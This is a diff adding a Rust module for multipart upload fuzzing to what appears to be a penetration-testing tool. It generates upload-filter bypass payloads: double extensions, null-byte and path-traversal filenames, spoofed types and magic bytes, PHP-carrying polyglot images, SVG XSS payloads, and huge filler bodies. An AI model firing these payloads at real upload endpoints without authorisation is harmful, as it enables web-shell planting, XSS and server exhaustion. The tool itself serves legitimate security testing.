@@ -0,0 +1,764 @@
+//! Multipart upload fuzzing
+//!
+//! Payload positions inside the parts of a multipart/form-data body: the
+//! filename and Content-Type a file part declares, the magic bytes its content
+//! starts with, and the content itself. Rendering an [`UploadTemplate`] yields
+//! an [`UploadBody`], which describes the body as a list of segments rather
+//! than holding it: a segment may be filler of any size or a file on the
+//! agent's disk, and the agent streams those when it sends the request.
+//!
+//! Upload positions are filled from payload sets like `§marker§` positions.
+//! Payload values are strings; byte-valued positions read them as:
+//! - `hex:<hex digits>` - raw bytes
+//! - `fill:<size>[:<hex byte>]` - `size` bytes of filler (body only; `K`/`M`/`G` suffixes)
+//! - `file:<path>` - a file on the agent's disk (body only)
+//! - anything else - the text itself
+
+use crate::error::{AttackError, AttackResult};
+use crate::parser::{PayloadLocation, PayloadPosition};
+use crate::payload::PayloadGenerator;
+use async_trait::async_trait;
+use serde::{Deserialize, Serialize};
+use std::collections::{HashMap, HashSet};
+
+/// Default code planted in polyglot payloads
+pub const DEFAULT_POLYGLOT_CODE: &str = "<?php echo 'proxxy-upload-probe'; ?>";
+
+/// Largest filler a payload may ask for
+pub const MAX_FILLER_SIZE: u64 = 16 * 1024 * 1024 * 1024;
+
+/// Inline bytes shown per segment when previewing an upload body
+const PREVIEW_INLINE_LIMIT: usize = 4096;
+
+/// Part of a file part that a payload is placed in
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
+#[serde(rename_all = "snake_case")]
+pub enum UploadField {
+    /// `filename` parameter of Content-Disposition
+    Filename,
+    /// The part's Content-Type header
+    ContentType,
+    /// Bytes prepended to the part's content
+    MagicBytes,
+    /// The part's content
+    Body,
+}
+
+impl UploadField {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            UploadField::Filename => "filename",
+            UploadField::ContentType => "content_type",
+            UploadField::MagicBytes => "magic_bytes",
+            UploadField::Body => "body",
+        }
+    }
+}
+
+/// A payload position inside a multipart part
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct UploadPosition {
+    /// Index of the part in [`UploadTemplate::parts`]
+    pub part: usize,
+    pub field: UploadField,
+    /// Payload set filling this position, like a `§marker§` name
+    pub payload_set_id: String,
+}
+
+/// Where a run of body bytes comes from
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum UploadSource {
+    Inline(Vec<u8>),
+    /// `size` copies of `byte`, generated while sending
+    Filler { size: u64, byte: u8 },
+    /// File read from the executing agent's disk while sending
+    AgentFile { path: String },
+}
+
+impl UploadSource {
+    /// Read a body payload value (see the module docs for the syntax)
+    pub fn parse(value: &str) -> AttackResult<Self> {
+        if let Some(spec) = value.strip_prefix("fill:") {
+            let (size, byte) = match spec.split_once(':') {
+                Some((size, byte)) => (size, parse_hex_byte(byte)?),
+                None => (spec, b'A'),
+            };
+            let size = parse_size(size)?;
+            if size > MAX_FILLER_SIZE {
+                return Err(invalid(format!("Filler of {} bytes exceeds the {} byte limit", size, MAX_FILLER_SIZE)));
+            }
+            return Ok(UploadSource::Filler { size, byte });
+        }
+        if let Some(path) = value.strip_prefix("file:") {
+            if path.is_empty() {
+                return Err(invalid("Agent file path cannot be empty".to_string()));
+            }
+            return Ok(UploadSource::AgentFile { path: path.to_string() });
+        }
+        Ok(UploadSource::Inline(parse_bytes(value)?))
+    }
+
+    /// Length in bytes, unknown for agent files until the agent opens them
+    pub fn len(&self) -> Option<u64> {
+        match self {
+            UploadSource::Inline(bytes) => Some(bytes.len() as u64),
+            UploadSource::Filler { size, .. } => Some(*size),
+            UploadSource::AgentFile { .. } => None,
+        }
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == Some(0)
+    }
+}
+
+/// One part of a multipart body template
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct UploadPartTemplate {
+    /// Form field name
+    pub name: String,
+    pub filename: Option<String>,
+    pub content_type: Option<String>,
+    /// Other part headers, sent as-is
+    #[serde(default)]
+    pub headers: Vec<(String, String)>,
+    /// Bytes sent ahead of `body`
+    #[serde(default)]
+    pub magic: Vec<u8>,
+    pub body: UploadSource,
+}
+
+impl UploadPartTemplate {
+    /// Plain form field
+    pub fn field(name: &str, value: &str) -> Self {
+        Self {
+            name: name.to_string(),
+            filename: None,
+            content_type: None,
+            headers: Vec::new(),
+            magic: Vec::new(),
+            body: UploadSource::Inline(value.as_bytes().to_vec()),
+        }
+    }
+
+    /// File field
+    pub fn file(name: &str, filename: &str, content_type: &str, body: Vec<u8>) -> Self {
+        Self {
+            name: name.to_string(),
+            filename: Some(filename.to_string()),
+            content_type: Some(content_type.to_string()),
+            headers: Vec::new(),
+            magic: Vec::new(),
+            body: UploadSource::Inline(body),
+        }
+    }
+
+    fn apply(&mut self, field: UploadField, value: &str) -> AttackResult<()> {
+        match field {
+            UploadField::Filename => self.filename = Some(value.to_string()),
+            // An empty type drops the header
+            UploadField::ContentType => self.content_type = Some(value.to_string()).filter(|t| !t.is_empty()),
+            UploadField::MagicBytes => self.magic = parse_bytes(value)?,
+            UploadField::Body => self.body = UploadSource::parse(value)?,
+        }
+        Ok(())
+    }
+
+    /// Delimiter-to-content header block of this part
+    fn header_block(&self, boundary: &str) -> Vec<u8> {
+        let mut head = format!("--{}\r\nContent-Disposition: form-data; name=\"{}\"", boundary, quote(&self.name))
+            .into_bytes();
+        if let Some(filename) = &self.filename {
+            // Raw bytes: fuzzed filenames keep their NULs, quotes and encodings
+            head.extend_from_slice(b"; filename=\"");
+            head.extend_from_slice(filename.as_bytes());
+            head.push(b'"');
+        }
+        head.extend_from_slice(b"\r\n");
+        if let Some(content_type) = &self.content_type {
+            head.extend_from_slice(format!("Content-Type: {}\r\n", content_type).as_bytes());
+        }
+        for (name, value) in &self.headers {
+            head.extend_from_slice(format!("{}: {}\r\n", name, value).as_bytes());
+        }
+        head.extend_from_slice(b"\r\n");
+        head
+    }
+}
+
+/// A multipart/form-data body with payload positions inside its parts
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct UploadTemplate {
+    pub boundary: String,
+    pub parts: Vec<UploadPartTemplate>,
+    pub positions: Vec<UploadPosition>,
+}
+
+impl UploadTemplate {
+    pub fn validate(&self) -> AttackResult<()> {
+        if self.boundary.is_empty() || self.boundary.len() > 70 {
+            return Err(invalid("Multipart boundary must be 1 to 70 characters".to_string()));
+        }
+        if self.boundary.chars().any(|c| c.is_control() || c == '"') {
+            return Err(invalid(format!("Invalid multipart boundary: {:?}", self.boundary)));
+        }
+        if self.parts.is_empty() {
+            return Err(invalid("Upload template has no parts".to_string()));
+        }
+
+        let mut ids = HashSet::new();
+        for position in &self.positions {
+            if position.part >= self.parts.len() {
+                return Err(invalid(format!(
+                    "Upload position '{}' targets part {} of {}",
+                    position.payload_set_id,
+                    position.part,
+                    self.parts.len()
+                )));
+            }
+            if !ids.insert((position.part, position.field)) {
+                return Err(invalid(format!(
+                    "Part {} has more than one {} position",
+                    position.part,
+                    position.field.as_str()
+                )));
+            }
+            if position.payload_set_id.is_empty() {
+                return Err(invalid("Upload position has no payload set".to_string()));
+            }
+        }
+        Ok(())
+    }
+
+    /// Upload positions as payload positions numbered after the template's
+    /// `§marker§` positions, so attack modes fill both alike. They occupy no
+    /// text in the request template.
+    pub fn payload_positions(&self, first_index: usize) -> Vec<PayloadPosition> {
+        self.positions
+            .iter()
+            .enumerate()
+            .map(|(i, position)| PayloadPosition {
+                start: 0,
+                end: 0,
+                marker: format!("{}[{}].{}", position.payload_set_id, position.part, position.field.as_str()),
+                payload_set_id: position.payload_set_id.clone(),
+                index: first_index + i,
+                location: PayloadLocation::Body,
+            })
+            .collect()
+    }
+
+    /// Body for one request. `values` maps payload set ids to this request's
+    /// payloads; positions without a value keep the template's content.
+    pub fn render(&self, values: &HashMap<String, String>) -> AttackResult<UploadBody> {
+        let mut parts = self.parts.clone();
+        for position in &self.positions {
+            if let Some(value) = values.get(&position.payload_set_id) {
+                let part = parts.get_mut(position.part).ok_or_else(|| {
+                    invalid(format!("Upload position targets missing part {}", position.part))
+                })?;
+                part.apply(position.field, value)?;
+            }
+        }
+
+        let mut body = UploadBody {
+            content_type: format!("multipart/form-data; boundary={}", self.boundary),
+            segments: Vec::new(),
+        };
+        for (i, part) in parts.iter().enumerate() {
+            let mut head = if i == 0 { Vec::new() } else { b"\r\n".to_vec() };
+            head.extend(part.header_block(&self.boundary));
+            head.extend_from_slice(&part.magic);
+            body.push(UploadSource::Inline(head));
+            body.push(part.body.clone());
+        }
+        body.push(UploadSource::Inline(format!("\r\n--{}--\r\n", self.boundary).into_bytes()));
+        Ok(body)
+    }
+}
+
+/// A request body given as segments sent back to back
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct UploadBody {
+    /// Content-Type header for the request, boundary included
+    pub content_type: String,
+    pub segments: Vec<UploadSource>,
+}
+
+impl UploadBody {
+    /// Append a segment, merging adjacent inline bytes
+    fn push(&mut self, segment: UploadSource) {
+        if segment.is_empty() {
+            return;
+        }
+        if let (Some(UploadSource::Inline(last)), UploadSource::Inline(bytes)) = (self.segments.last_mut(), &segment) {
+            last.extend_from_slice(bytes);
+            return;
+        }
+        self.segments.push(segment);
+    }
+
+    /// Total length, if it is known before the agent opens any files
+    pub fn content_length(&self) -> Option<u64> {
+        self.segments.iter().map(UploadSource::len).sum()
+    }
+
+    /// Whether the whole body is held in the segments
+    pub fn is_inline(&self) -> bool {
+        self.segments.iter().all(|s| matches!(s, UploadSource::Inline(_)))
+    }
+
+    /// Body with streamed segments replaced by a short description and long
+    /// inline runs cut, for storing alongside attack results
+    pub fn preview(&self) -> Vec<u8> {
+        let mut out = Vec::new();
+        for segment in &self.segments {
+            match segment {
+                UploadSource::Inline(bytes) if bytes.len() > PREVIEW_INLINE_LIMIT => {
+                    out.extend_from_slice(&bytes[..PREVIEW_INLINE_LIMIT]);
+                    out.extend(format!("[... {} more bytes]", bytes.len() - PREVIEW_INLINE_LIMIT).into_bytes());
+                }
+                UploadSource::Inline(bytes) => out.extend_from_slice(bytes),
+                UploadSource::Filler { size, byte } => {
+                    out.extend(format!("[{} bytes of 0x{:02x}]", size, byte).into_bytes())
+                }
+                UploadSource::AgentFile { path } => out.extend(format!("[agent file {}]", path).into_bytes()),
+            }
+        }
+        out
+    }
+}
+
+/// Built-in malicious-file payload catalogs
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case", tag = "kind")]
+pub enum UploadCatalog {
+    /// Filenames that smuggle `extension` past a filter expecting `allowed`
+    /// (filename positions)
+    DoubleExtensions {
+        basename: String,
+        extension: String,
+        allowed: String,
+    },
+    /// Declared types upload filters commonly trust (content-type positions)
+    ContentTypes,
+    /// File signatures of allowed formats (magic-bytes positions)
+    MagicBytes,
+    /// Files valid as an image or document that also carry `code`
+    /// (body positions)
+    Polyglots { code: Option<String> },
+    /// Filler of each size, and files on the agent's disk (body positions)
+    Oversized {
+        sizes: Vec<u64>,
+        #[serde(default)]
+        agent_files: Vec<String>,
+    },
+}
+
+/// Server-side extensions tried in place of the requested one
+const EXTENSION_ALTERNATIVES: &[(&str, &[&str])] = &[
+    ("php", &["php3", "php4", "php5", "php7", "phtml", "pht", "phps", "phar", "pgif", "inc"]),
+    ("asp", &["aspx", "asa", "cer", "cdx", "ashx", "asmx"]),
+    ("aspx", &["asp", "ashx", "asmx", "svc", "config"]),
+    ("jsp", &["jspx", "jsw", "jsv", "jspf", "war"]),
+    ("html", &["htm", "xhtml", "shtml", "svg", "xml"]),
+];
+
+const CONTENT_TYPES: &[&str] = &[
+    "image/jpeg",
+    "image/png",
+    "image/gif",
+    "image/svg+xml",
+    "image/webp",
+    "application/pdf",
+    "application/octet-stream",
+    "text/plain",
+    "text/html",
+    "application/x-php",
+    "application/x-httpd-php",
+    "application/xml",
+    "application/zip",
+    "",
+];
+
+/// (format, signature)
+const MAGIC_BYTES: &[(&str, &[u8])] = &[
+    ("gif", b"GIF89a"),
+    ("png", b"\x89PNG\r\n\x1a\n"),
+    ("jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
+    ("pdf", b"%PDF-1.7\n"),
+    ("zip", b"PK\x03\x04"),
+    ("gzip", b"\x1f\x8b\x08"),
+    ("bmp", b"BM"),
+    ("webp", b"RIFF\x00\x00\x00\x00WEBPVP8 "),
+    ("tiff", b"II*\x00"),
+];
+
+impl UploadCatalog {
+    /// Payload values of this catalog, in the syntax upload positions read
+    pub fn payloads(&self) -> Vec<String> {
+        match self {
+            UploadCatalog::DoubleExtensions { basename, extension, allowed } => {
+                double_extensions(basename, extension, allowed)
+            }
+            UploadCatalog::ContentTypes => CONTENT_TYPES.iter().map(|t| t.to_string()).collect(),
+            UploadCatalog::MagicBytes => MAGIC_BYTES.iter().map(|(_, magic)| hex_value(magic)).collect(),
+            UploadCatalog::Polyglots { code } => {
+                polyglots(code.as_deref().unwrap_or(DEFAULT_POLYGLOT_CODE).as_bytes())
+            }
+            UploadCatalog::Oversized { sizes, agent_files } => sizes
+                .iter()
+                .map(|size| format!("fill:{}", size))
+                .chain(agent_files.iter().map(|path| format!("file:{}", path)))
+                .collect(),
+        }
+    }
+
+    pub fn description(&self) -> String {
+        match self {
+            UploadCatalog::DoubleExtensions { extension, allowed, .. } => {
+                format!("Double extensions (.{} as .{})", extension, allowed)
+            }
+            UploadCatalog::ContentTypes => "Upload content types".to_string(),
+            UploadCatalog::MagicBytes => "File magic bytes".to_string(),
+            UploadCatalog::Polyglots { .. } => "Polyglot files".to_string(),
+            UploadCatalog::Oversized { sizes, agent_files } => {
+                format!("Oversized files ({} sizes, {} agent files)", sizes.len(), agent_files.len())
+            }
+        }
+    }
+
+    pub fn validate(&self) -> AttackResult<()> {
+        match self {
+            UploadCatalog::DoubleExtensions { basename, extension, allowed } => {
+                if basename.is_empty() || extension.is_empty() || allowed.is_empty() {
+                    return Err(invalid("Basename and extensions cannot be empty".to_string()));
+                }
+                if extension.starts_with('.') || allowed.starts_with('.') {
+                    return Err(invalid("Extensions are given without the leading dot".to_string()));
+                }
+            }
+            UploadCatalog::Oversized { sizes, agent_files } => {
+                if sizes.is_empty() && agent_files.is_empty() {
+                    return Err(invalid("Oversized catalog needs a size or an agent file".to_string()));
+                }
+                if let Some(size) = sizes.iter().find(|s| **s > MAX_FILLER_SIZE) {
+                    return Err(invalid(format!("Filler of {} bytes exceeds the {} byte limit", size, MAX_FILLER_SIZE)));
+                }
+            }
+            UploadCatalog::ContentTypes | UploadCatalog::MagicBytes | UploadCatalog::Polyglots { .. } => {}
+        }
+        Ok(())
+    }
+}
+
+fn double_extensions(basename: &str, extension: &str, allowed: &str) -> Vec<String> {
+    let mut extensions = vec![extension.to_string(), swap_case(extension), extension.to_ascii_uppercase()];
+    if let Some((_, alternatives)) = EXTENSION_ALTERNATIVES
+        .iter()
+        .find(|(ext, _)| ext.eq_ignore_ascii_case(extension))
+    {
+        extensions.extend(alternatives.iter().map(|a| a.to_string()));
+    }
+
+    let mut names = Vec::new();
+    for ext in &extensions {
+        names.push(format!("{}.{}", basename, ext));
+        names.push(format!("{}.{}.{}", basename, ext, allowed));
+        names.push(format!("{}.{}.{}", basename, allowed, ext));
+    }
+    // Truncation and parser-confusion tricks on the requested extension
+    for suffix in ["%00", "\0", ";", "%20", "::$DATA", "%0a", "/"] {
+        names.push(format!("{}.{}{}.{}", basename, extension, suffix, allowed));
+    }
+    for suffix in [".", " ", "...", "::$DATA", "%00"] {
+        names.push(format!("{}.{}{}", basename, extension, suffix));
+    }
+    names.push(format!("../{}.{}", basename, extension));
+    names.push(format!("..%2f{}.{}", basename, extension));
+    names.push(".htaccess".to_string());
+
+    let mut seen = HashSet::new();
+    names.retain(|name| seen.insert(name.clone()));
+    names
+}
+
+fn polyglots(code: &[u8]) -> Vec<String> {
+    let mut files: Vec<Vec<u8>> = Vec::new();
+
+    // GIF header followed by the code
+    files.push([b"GIF89a;".as_slice(), code].concat());
+
+    // Minimal GIF image with the code in a comment extension
+    let mut gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff".to_vec();
+    for chunk in code.chunks(255) {
+        gif.extend_from_slice(&[0x21, 0xfe, chunk.len() as u8]);
+        gif.extend_from_slice(chunk);
+        gif.push(0x00);
+    }
+    gif.extend_from_slice(b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b");
+    files.push(gif);
+
+    // JPEG with the code in a COM segment
+    let mut jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00".to_vec();
+    for chunk in code.chunks(u16::MAX as usize - 2) {
+        jpeg.extend_from_slice(&[0xff, 0xfe]);
+        jpeg.extend_from_slice(&((chunk.len() + 2) as u16).to_be_bytes());
+        jpeg.extend_from_slice(chunk);
+    }
+    jpeg.extend_from_slice(b"\xff\xd9");
+    files.push(jpeg);
+
+    // PNG signature and header chunk, code trailing the image
+    files.push(
+        [
+            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89".as_slice(),
+            code,
+        ]
+        .concat(),
+    );
+
+    // PDF carrying the code in a comment
+    files.push([b"%PDF-1.4\n%".as_slice(), code, b"\n%%EOF\n"].concat());
+
+    // SVG and HTML payloads for stored XSS through rendered uploads
+    files.push(
+        br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(document.domain)</script></svg>"#
+            .to_vec(),
+    );
+    files.push([b"GIF89a/*<html><script>alert(document.domain)</script>*/".as_slice(), code].concat());
+
+    // ZIP local file header, for extract-on-upload handlers
+    files.push([b"PK\x03\x04\x14\x00\x00\x00\x00\x00".as_slice(), code].concat());
+
+    files.iter().map(|file| hex_value(file)).collect()
+}
+
+/// Generator for the built-in upload catalogs
+#[derive(Debug, Clone)]
+pub struct UploadCatalogGenerator {
+    catalog: UploadCatalog,
+}
+
+impl UploadCatalogGenerator {
+    pub fn new(catalog: UploadCatalog) -> Self {
+        Self { catalog }
+    }
+}
+
+#[async_trait]
+impl PayloadGenerator for UploadCatalogGenerator {
+    async fn generate(&self) -> AttackResult<Vec<String>> {
+        self.validate()?;
+        Ok(self.catalog.payloads())
+    }
+
+    async fn count(&self) -> AttackResult<usize> {
+        Ok(self.catalog.payloads().len())
+    }
+
+    fn description(&self) -> String {
+        self.catalog.description()
+    }
+
+    fn validate(&self) -> AttackResult<()> {
+        self.catalog.validate()
+    }
+}
+
+fn invalid(reason: String) -> AttackError {
+    AttackError::InvalidPayloadConfig { reason }
+}
+
+fn quote(value: &str) -> String {
+    value.replace('"', "%22")
+}
+
+fn swap_case(value: &str) -> String {
+    value
+        .chars()
+        .enumerate()
+        .map(|(i, c)| if i % 2 == 0 { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() })
+        .collect()
+}
+
+/// `hex:`-prefixed payload value for raw bytes
+pub fn hex_value(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(4 + bytes.len() * 2);
+    out.push_str("hex:");
+    for b in bytes {
+        out.push_str(&format!("{:02x}", b));
+    }
+    out
+}
+
+/// Bytes of a payload value: `hex:` values decoded, anything else as text
+pub fn parse_bytes(value: &str) -> AttackResult<Vec<u8>> {
+    let hex = match value.strip_prefix("hex:") {
+        Some(hex) => hex,
+        None => return Ok(value.as_bytes().to_vec()),
+    };
+    if hex.len() % 2 != 0 {
+        return Err(invalid("Hex payload has an odd number of digits".to_string()));
+    }
+    (0..hex.len())
+        .step_by(2)
+        .map(|i| {
+            u8::from_str_radix(&hex[i..i + 2], 16).map_err(|_| invalid(format!("Invalid hex payload: {}", value)))
+        })
+        .collect()
+}
+
+fn parse_hex_byte(value: &str) -> AttackResult<u8> {
+    let digits = value.trim_start_matches("0x");
+    u8::from_str_radix(digits, 16).map_err(|_| invalid(format!("Invalid filler byte: {}", value)))
+}
+
+/// Byte count with an optional K/M/G (binary) suffix
+fn parse_size(value: &str) -> AttackResult<u64> {
+    let value = value.trim();
+    let (digits, multiplier) = match value.chars().last().map(|c| c.to_ascii_uppercase()) {
+        Some('K') => (&value[..value.len() - 1], 1u64 << 10),
+        Some('M') => (&value[..value.len() - 1], 1 << 20),
+        Some('G') => (&value[..value.len() - 1], 1 << 30),
+        _ => (value, 1),
+    };
+    digits
+        .parse::<u64>()
+        .ok()
+        .and_then(|n| n.checked_mul(multiplier))
+        .ok_or_else(|| invalid(format!("Invalid size: {}", value)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn template() -> UploadTemplate {
+        UploadTemplate {
+            boundary: "XyZ".to_string(),
+            parts: vec![
+                UploadPartTemplate::field("title", "cat"),
+                UploadPartTemplate::file("avatar", "cat.jpg", "image/jpeg", b"\xff\xd8data".to_vec()),
+            ],
+            positions: vec![
+                UploadPosition { part: 1, field: UploadField::Filename, payload_set_id: "name".to_string() },
+                UploadPosition { part: 1, field: UploadField::ContentType, payload_set_id: "type".to_string() },
+                UploadPosition { part: 1, field: UploadField::MagicBytes, payload_set_id: "magic".to_string() },
+                UploadPosition { part: 1, field: UploadField::Body, payload_set_id: "body".to_string() },
+            ],
+        }
+    }
+
+    fn inline(body: &UploadBody) -> Vec<u8> {
+        body.segments
+            .iter()
+            .flat_map(|s| match s {
+                UploadSource::Inline(bytes) => bytes.clone(),
+                _ => panic!("streamed segment"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn test_render_without_payloads() {
+        let body = template().render(&HashMap::new()).unwrap();
+        assert_eq!(body.content_type, "multipart/form-data; boundary=XyZ");
+        assert_eq!(body.segments.len(), 1);
+        assert_eq!(
+            inline(&body),
+            b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\ncat\r\n\
+              --XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"cat.jpg\"\r\n\
+              Content-Type: image/jpeg\r\n\r\n\xff\xd8data\r\n--XyZ--\r\n"
+                .to_vec()
+        );
+    }
+
+    #[test]
+    fn test_render_fills_positions() {
+        let values = HashMap::from([
+            ("name".to_string(), "shell.php.jpg".to_string()),
+            ("type".to_string(), "image/gif".to_string()),
+            ("magic".to_string(), "hex:47494638".to_string()),
+            ("body".to_string(), "fill:2M:00".to_string()),
+        ]);
+        let body = template().render(&values).unwrap();
+
+        assert_eq!(body.segments.len(), 3);
+        let head = match &body.segments[0] {
+            UploadSource::Inline(bytes) => String::from_utf8_lossy(bytes).to_string(),
+            other => panic!("unexpected {:?}", other),
+        };
+        assert!(head.contains("filename=\"shell.php.jpg\"\r\nContent-Type: image/gif\r\n\r\nGIF8"));
+        assert_eq!(body.segments[1], UploadSource::Filler { size: 2 << 20, byte: 0 });
+        assert!(!body.is_inline());
+        let head_len = match &body.segments[0] {
+            UploadSource::Inline(bytes) => bytes.len() as u64,
+            _ => unreachable!(),
+        };
+        assert_eq!(body.content_length(), Some(head_len + (2 << 20) + b"\r\n--XyZ--\r\n".len() as u64));
+        assert!(String::from_utf8_lossy(&body.preview()).contains("[2097152 bytes of 0x00]"));
+
+        let on_disk = template()
+            .render(&HashMap::from([("body".to_string(), "file:/srv/big.bin".to_string())]))
+            .unwrap();
+        assert_eq!(on_disk.content_length(), None);
+    }
+
+    #[test]
+    fn test_validate() {
+        assert!(template().validate().is_ok());
+
+        let mut bad = template();
+        bad.positions[0].part = 5;
+        assert!(bad.validate().is_err());
+
+        let mut duplicate = template();
+        duplicate.positions[1].field = UploadField::Filename;
+        assert!(duplicate.validate().is_err());
+
+        let positions = template().payload_positions(2);
+        assert_eq!(positions[0].index, 2);
+        assert_eq!(positions[3].payload_set_id, "body");
+    }
+
+    #[test]
+    fn test_source_parsing() {
+        assert_eq!(UploadSource::parse("fill:10").unwrap(), UploadSource::Filler { size: 10, byte: b'A' });
+        assert_eq!(UploadSource::parse("fill:1k:ff").unwrap(), UploadSource::Filler { size: 1024, byte: 0xff });
+        assert!(UploadSource::parse("fill:99G").is_err());
+        assert!(UploadSource::parse("file:").is_err());
+        assert_eq!(UploadSource::parse("hex:00ff").unwrap(), UploadSource::Inline(vec![0, 0xff]));
+        assert_eq!(UploadSource::parse("<?php").unwrap(), UploadSource::Inline(b"<?php".to_vec()));
+        assert!(parse_bytes("hex:abc").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_catalogs() {
+        let names = UploadCatalog::DoubleExtensions {
+            basename: "shell".to_string(),
+            extension: "php".to_string(),
+            allowed: "jpg".to_string(),
+        }
+        .payloads();
+        for expected in ["shell.php.jpg", "shell.jpg.php", "shell.phtml", "shell.php%00.jpg", "shell.pHp"] {
+            assert!(names.contains(&expected.to_string()), "missing {}", expected);
+        }
+
+        let polyglots = UploadCatalog::Polyglots { code: None }.payloads();
+        let gif = parse_bytes(&polyglots[1]).unwrap();
+        assert!(gif.starts_with(b"GIF89a") && gif.ends_with(b";"));
+        assert!(polyglots.iter().all(|p| UploadSource::parse(p).is_ok()));
+
+        let generator = UploadCatalogGenerator::new(UploadCatalog::Oversized {
+            sizes: vec![1 << 20, 1 << 30],
+            agent_files: vec!["/data/4g.iso".to_string()],
+        });
+        assert_eq!(generator.generate().await.unwrap(), vec!["fill:1048576", "fill:1073741824", "file:/data/4g.iso"]);
+        assert_eq!(generator.count().await.unwrap(), 3);
+
+        let empty = UploadCatalogGenerator::new(UploadCatalog::Oversized { sizes: vec![], agent_files: vec![] });
+        assert!(empty.validate().is_err());
+    }
+}